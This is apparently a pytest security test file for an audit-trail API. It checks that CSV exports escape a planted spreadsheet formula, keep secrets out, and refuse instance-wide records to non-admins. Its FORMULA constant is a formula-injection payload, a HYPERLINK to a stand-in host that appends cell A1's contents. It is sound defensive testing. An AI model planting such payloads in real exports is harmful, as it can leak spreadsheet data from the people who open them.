"""Hostile cases of the audit trail's instance page and exports, each with its control: a
formula planted in a name reaches a spreadsheet as text; a secret never reaches an export; a
non-admin (a project owner) asking for the instance's records is refused, where an admin gets
them."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from support.builders import member_client

pytestmark = [pytest.mark.security]

FORMULA = '=HYPERLINK("evil.invalid?"&A1,"open")'
SECRET = "hunter2-secret-of-the-key"


def _project(client: TestClient, name: str) -> int:
    created = client.post("/api/v1/projects", json={"name": name})
    assert created.status_code == 201, created.text
    project_id: int = created.json()["id"]
    return project_id


def test_a_formula_in_a_name_is_exported_as_text_and_a_secret_not_at_all(
    client: TestClient,
) -> None:
    project = _project(client, "hostile-csv")
    owner = member_client(client, project, "hostile-csv-owner", "owner")
    for name in (FORMULA, "plain-key"):  # the planted formula, and its control
        body = {"name": name, "kind": "secret", "value": SECRET}
        created = owner.post(f"/api/v1/projects/{project}/keys", json=body)
        assert created.status_code == 201, created.text

    exported = client.get("/api/v1/audit/export.csv", params={"action": "key:create"})
    assert exported.status_code == 200, exported.text
    names = {row["object_name"] for row in csv.DictReader(io.StringIO(exported.text, newline=""))}
    assert names == {"'" + FORMULA, "plain-key"}
    assert SECRET not in exported.text
    assert SECRET not in client.get("/api/v1/audit/export", params={"action": "key"}).text


def test_only_an_admin_reads_the_instance_records(client: TestClient) -> None:
    bad = {"username": "hostile-nobody", "password": "not-the-password"}
    assert (
        client.post("/api/v1/auth/login", json=bad, headers={"Authorization": ""}).status_code
        == 401
    )
    project = _project(client, "hostile-instance")
    owner = member_client(client, project, "hostile-instance-owner", "owner")
    asks = (
        ("/api/v1/audit", {"instance": True}),
        ("/api/v1/audit/export", {"instance": True}),
        ("/api/v1/audit/export.csv", {"instance": True}),
    )
    for url, params in asks:
        refused = owner.get(url, params=params)
        assert refused.status_code == 403, (url, refused.text)
        assert "admin" in refused.json()["detail"]
        allowed = client.get(url, params=params)  # control: the admin
        assert allowed.status_code == 200, (url, allowed.text)
        assert "hostile-nobody" in allowed.text
    # without the filter the owner reads their project's records only: no sign-in of anyone
    theirs = owner.get("/api/v1/audit", params={"action": "auth"})
    assert theirs.status_code == 200
    assert theirs.json()["items"] == []
    own_project = owner.get("/api/v1/audit", params={"project_id": project})
    assert own_project.json()["items"], "control: the owner reads their project's records"
